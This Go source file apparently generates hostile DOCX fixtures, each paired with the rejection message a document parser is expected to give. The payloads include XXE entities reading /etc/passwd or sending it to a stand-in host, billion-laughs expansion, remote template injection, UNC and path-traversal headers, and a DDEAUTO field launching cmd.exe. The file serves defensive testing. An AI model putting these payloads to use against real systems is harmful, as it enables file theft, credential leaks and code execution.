package hostile

import (
	"fmt"
	"strings"
)

func documents() []File {
	return append(append(entities(), shapes()...), foreignParts()...)
}

// doctyped is a document with a document type before it.
func doctyped(declared, said string) source {
	return wordXML(around(`<?xml version="1.0"?><!DOCTYPE w [`+declared+`]>`, text("<w:document "+spaces+"><w:body>"+career+paragraph(said)), "</w:body></w:document>"))
}

// laughs declares n entities, each ten of the one before.
func laughs(n int) string {
	var b strings.Builder
	b.WriteString(`<!ENTITY a0 "ha">`)
	for i := 1; i <= n; i++ {
		fmt.Fprintf(&b, `<!ENTITY a%d "%s">`, i, strings.Repeat(fmt.Sprintf("&a%d;", i-1), 10))
	}
	return b.String()
}

func entities() []File {
	return []File{
		{"outside-entity.docx", "XXE: an entity that is a file of the system", "declares a document type", doctyped(`<!ENTITY x SYSTEM "file:///etc/passwd">`, "&x;")},
		{"entity-of-the-net.docx", "XXE: an entity behind an address", "declares a document type", doctyped(`<!ENTITY x SYSTEM "http://198.51.100.1/x">`, "&x;")},
		{"entity-sent-away.docx", "XXE: a parameter entity that would send a file away", "declares a document type",
			doctyped(`<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % d SYSTEM "http://198.51.100.1/d.dtd">%d;%f;`, "x")},
		{"billion-laughs.docx", "ten to the ninth times one entity", "declares a document type", doctyped(laughs(9), "&a9;")},
		{"quadratic.docx", "an entity of 100 KB, asked for 10,000 times", "declares a document type", doctyped(`<!ENTITY x "`+strings.Repeat("x", 100_000)+`">`, strings.Repeat("&x;", 10_000))},
		{"entity-of-itself.docx", "two entities, each of the other", "declares a document type", doctyped(`<!ENTITY a "&b;"><!ENTITY b "&a;">`, "&a;")},
		{"entity-not-declared.docx", "an entity that nobody declared", Found, word(text(career + paragraph("&nobody;")))},
		{"doctype-in-styles.docx", "a document type in the styles", "declares a document type", word(text(career), part{"word/styles.xml", text(`<!DOCTYPE w [`, laughs(9), `]><w:styles `, spaces, `>&a9;</w:styles>`)})},
		{"doctype-in-relations.docx", "a document type in the relationships", "declares a document type", word(text(career), part{mainRels, text(`<!DOCTYPE w [`, laughs(9), `]><Relationships>&a9;</Relationships>`)})},
		{"doctype-of-megabytes.docx", "a document type of 20 MB that never ends", "DOCX unpacks to more than the bounds allow", wordXML(chain(text(`<!DOCTYPE w [`), prose(3_000_000)))},
	}
}

func shapes() []File {
	return []File{
		{"deep.docx", "a million elements within each other", "the DOCX nests more than 200 deep", word(times(1_000_000, "<w:sdt>"))},
		{"deep-and-closed.docx", "100,000 elements within each other, all closed", "the DOCX nests more than 200 deep", word(chain(times(100_000, "<w:sdt>"), times(100_000, "</w:sdt>")))},
		{"tables-in-tables.docx", "tables within tables, 1,000 deep", "the DOCX nests more than 200 deep", word(chain(times(1000, "<w:tbl><w:tr><w:tc>"), text(career), times(1000, "</w:tc></w:tr></w:tbl>")))},
		{"tables-just-so-deep.docx", "tables within tables, as deep as is read", Found, word(chain(times(60, "<w:tbl><w:tr><w:tc>"+paragraph("a")), text(career), times(60, "</w:tc><w:tc>"+paragraph("b")+"</w:tc></w:tr></w:tbl>")))},
		{"one-run.docx", "100 MB of text in one run", "DOCX unpacks to more than the bounds allow", word(around("<w:p><w:r><w:t>", times(100*mega, "a"), "</w:t></w:r></w:p>"))},
		{"one-run-of-words.docx", "13 MB of words in one run", "has a tag or a text of more than", word(around("<w:p><w:r><w:t>", prose(2_000_000), "</w:t></w:r></w:p>"))},
		{"million-runs.docx", "one paragraph of 400,000 runs", "no line that is short enough", word(around("<w:p>", each(400_000, func(b []byte, i int) []byte {
			return fmt.Appendf(b, "<w:r><w:t>w%d </w:t></w:r>", i*7919%1_000_003)
		}), "</w:p>"))},
		{"million-hidden-runs.docx", "one paragraph of 220,000 hidden runs", "no line that is short enough", word(around("<w:p>", each(220_000, func(b []byte, i int) []byte {
			return fmt.Appendf(b, "<w:r><w:rPr><w:vanish/></w:rPr><w:t>w%d </w:t></w:r>", i*7919%1_000_003)
		}), "</w:p>"))},
		{"million-breaks.docx", "one paragraph of 600,000 line breaks", Found, word(around(career+"<w:p><w:r>", each(600_000, func(b []byte, i int) []byte {
			return fmt.Appendf(b, `<w:br w:x="%d"/>`, i*7919%1_000_003)
		}), "</w:r></w:p>"))},
		{"million-paragraphs.docx", "a million empty paragraphs", "the DOCX has no text", word(times(1_000_000, "<w:p/>"))},
		{"million-unlike-paragraphs.docx", "600,000 empty paragraphs, each with a number of its own", Found, word(chain(each(600_000, func(b []byte, i int) []byte {
			return fmt.Appendf(b, `<w:p w:rsidR="%08X"/>`, i*2654435761&0xffffffff)
		}), text(career)))},
		{"many-paragraphs.docx", "250,000 paragraphs of words", "nothing was understood", word(each(250_000, func(b []byte, i int) []byte {
			return fmt.Appendf(b, "<w:p><w:r><w:t>line %d of it %d</w:t></w:r></w:p>", i, i*7919%1_000_003)
		}))},
		{"many-attributes.docx", "an element of 1,200,000 attributes", "has a tag or a text of more than", word(around("<w:p ", each(1_200_000, func(b []byte, i int) []byte {
			return fmt.Appendf(b, ` a%d=""`, i*7919%2_000_003)
		}), ">"))},
		{"many-cells.docx", "a row of 250,000 cells", "nothing was understood", word(around("<w:tbl><w:tr>", each(250_000, func(b []byte, i int) []byte {
			return fmt.Appendf(b, "<w:tc><w:p><w:r><w:t>%d</w:t></w:r></w:p></w:tc>", i*7919%1_000_003)
		}), "</w:tr></w:tbl>"))},
		{"open-boxes.docx", "text boxes within text boxes", "the DOCX nests more than 200 deep", word(chain(times(90, "<w:p><w:r><w:txbxContent>"), text(career)))},
		{"choices-in-choices.docx", "alternatives within alternatives", Found, word(chain(times(50, "<mc:AlternateContent><mc:Choice/><mc:Fallback>"), text(career)))},
		{"closes-what-is-not-open.docx", "a part that closes more than it opens", Found, word(text(career, "</w:body></w:document></w:p></w:tbl></w:tc>"))},
		{"styles-in-a-ring.docx", "styles that are based on each other", Found, word(text(`<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr></w:p>`, career), part{"word/styles.xml",
			element("styles", text(`<w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style>`))})},
		{"million-styles.docx", "200,000 styles, each based on the one before", Found, word(text(career), part{"word/styles.xml", element("styles", each(200_000, func(b []byte, i int) []byte {
			return fmt.Appendf(b, `<w:style w:styleId="s%d"><w:basedOn w:val="s%d"/></w:style>`, i+1, i)
		}))})},
		{"sizes-without-sense.docx", "sizes and levels that are no numbers", Found, word(text(career, `<w:p><w:pPr><w:outlineLvl w:val="NaN"/></w:pPr><w:r><w:rPr><w:sz w:val="1e999"/><w:color w:val="zzzzzz"/></w:rPr><w:t>x</w:t></w:r></w:p>`))},
		{"references-to-no-character.docx", "references to surrogates and beyond Unicode", Found, word(text(career, paragraph("&#xD800;&#x110000;&#0;")))},
		{"wide-characters.docx", "5 MB of a ligature that is eighteen letters", "open it in a word processor and save it again", word(around("<w:p><w:r><w:t>", times(1_500_000, "\ufdfa"), "</w:t></w:r></w:p>"))},
	}
}

func foreignParts() []File {
	return []File{
		{"no-content-types.docx", "the list of parts is gone", Found, word(text(career), part{"[Content_Types].xml", nil})},
		{"wrong-content-types.docx", "the list of parts says it is a picture", Found, word(text(career), part{"[Content_Types].xml", text(`<Types><Override PartName="/word/document.xml" ContentType="image/png"/></Types>`)})},
		{"no-relations.docx", "nothing says which part is the main one", Found, word(text(career), part{"_rels/.rels", nil})},
		{"no-main-part.docx", "the main part is gone", "an archive without a Word document", word(nil, part{mainPart, nil})},
		{"main-part-elsewhere.docx", "the main part is said to be one that is not there", "an archive without a Word document", word(text(career), part{"_rels/.rels", related(relation("a", "officeDocument", "word/gone.xml"))})},
		{"main-part-of-itself.docx", "the main part is said to be the relationships", "the DOCX has no text", word(text(career), part{"_rels/.rels", related(relation("a", "officeDocument", "_rels/.rels"))})},
		{"main-part-is-empty.docx", "a main part without a byte", "the DOCX has no text", wordXML(text())},
		{"main-part-is-a-picture.docx", "a main part that is a picture", "open it in a word processor and save it again", wordXML(text("\x89PNG\r\n\x1a\n", zeros(100)))},
		{"main-part-in-utf16.docx", "a main part in UTF-16", "open it in a word processor and save it again", wordXML(utf16Text("<w:document>"+career+"</w:document>", true, true))},
		{"main-part-in-utf7.docx", "a main part that says it is in UTF-7", "not in UTF-8", wordXML(text(`<?xml version="1.0" encoding="UTF-7"?><w:document>+ADw-/w:document>`))},
		{"main-part-of-nul.docx", "NUL among the letters", Found, word(text(career, paragraph("a\x00b")))},
		{"main-part-breaks-off.docx", "XML that ends in the middle of a word", Found, wordXML(text(declaration, "<w:document ", spaces, "><w:body>", career, "<w:p><w:r><w:t>and then"))},
		{"macro.docx", "a document with a macro", Found, word(text(career), part{"word/vbaProject.bin", chain(text("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), noise(4096))}, part{mainRels, related(relation("v", "vbaProject", "vbaProject.bin"))})},
		{"macro.docm", "a document with a macro, under its own name", Found, word(text(career), part{"word/vbaProject.bin", chain(text("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), noise(4096))})},
		{"encrypted.docx", "a document with a password is an OLE file", "old or encrypted Word file", oleFile("EncryptedPackage", "EncryptionInfo")},
	}
}

// relations are documents that refer to what lies outside of them. None of it may be opened: the packages that read documents cannot
// open a file or an address, and the text beside is read.
func relations() []File {
	beside := func(list ...string) source { return word(text(career), part{mainRels, related(list...)}) }
	return []File{
		{"main-part-of-the-net.docx", "the main part is behind an address", Found, word(text(career), part{"_rels/.rels", related(external("a", "officeDocument", "http://198.51.100.1/word.xml"))})},
		{"template-of-the-net.docx", "template injection: a template with macros behind an address", Found,
			word(text(career), part{"word/settings.xml", element("settings", text(`<w:attachedTemplate r:id="t"/>`))},
				part{"word/_rels/settings.xml.rels", related(external("t", "attachedTemplate", "http://198.51.100.1/evil.dotm"))}, part{mainRels, related(relation("s", "settings", "settings.xml"))})},
		{"header-of-the-net.docx", "a header behind an address", Found, beside(external("h", "header", "http://198.51.100.1/h.xml"))},
		{"header-of-the-system.docx", "a header that is a file of the system", Found, beside(external("h", "header", "file:///etc/passwd"))},
		{"header-of-a-server.docx", "a header on a file server, which would learn the password", Found, beside(external("h", "header", `\\198.51.100.1\share\h.xml`))},
		{"header-that-climbs.docx", "a header above the archive", Found, beside(relation("h", "header", "../../../../../etc/passwd"))},
		{"styles-of-the-net.docx", "styles behind an address", Found, beside(external("s", "styles", "https://198.51.100.1/s.xml"))},
		{"picture-that-counts.docx", "a picture behind an address, to see who reads", Found, beside(external("i", "image", "http://198.51.100.1/pixel.gif?who=1"))},
		{"ole-of-the-net.docx", "an object behind an address", Found, beside(external("o", "oleObject", "http://198.51.100.1/x.hta"))},
		{"chunk-of-html.docx", "a chunk of HTML with a script within the document", Found, word(text(career, `<w:altChunk r:id="c"/>`), part{mainRels, related(relation("c", "aFChunk", "c.html"))}, part{"word/c.html", text("<script>alert(1)</script>")})},
		{"fields-that-run.docx", "fields that would run a program or take in a file", Found, word(text(career, field(`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`), field(`INCLUDETEXT "file:///etc/passwd"`),
			field(`INCLUDEPICTURE "http://198.51.100.1/x"`), field(`HYPERLINK "javascript:alert(1)"`)))},
		{"relations-of-themselves.docx", "the main part is its own header", Found, beside(relation("h", "header", "document.xml"), relation("f", "footer", "document.xml"))},
		{"one-relation-often.docx", "one header, asked for 250,000 times under one name", Found, word(text(career), part{mainRels, around("<Relationships>", each(250_000, func(b []byte, i int) []byte {
			return fmt.Appendf(b, `<Relationship Id="h" Type="x/header" Target="h%d.xml"/>`, i*7919%1_000_003)
		}), "</Relationships>")})},
		{"many-relations.docx", "200,000 headers that are not there", Found, word(text(career), part{mainRels, around("<Relationships>", each(200_000, func(b []byte, i int) []byte {
			return fmt.Appendf(b, `<Relationship Id="h%d" Type="x/header" Target="h%d.xml"/>`, i, i)
		}), "</Relationships>")})},
	}
}

func field(code string) string {
	return `<w:p><w:r><w:instrText>` + strings.ReplaceAll(code, `"`, "&quot;") + `</w:instrText></w:r><w:r><w:t>see</w:t></w:r></w:p>`
}
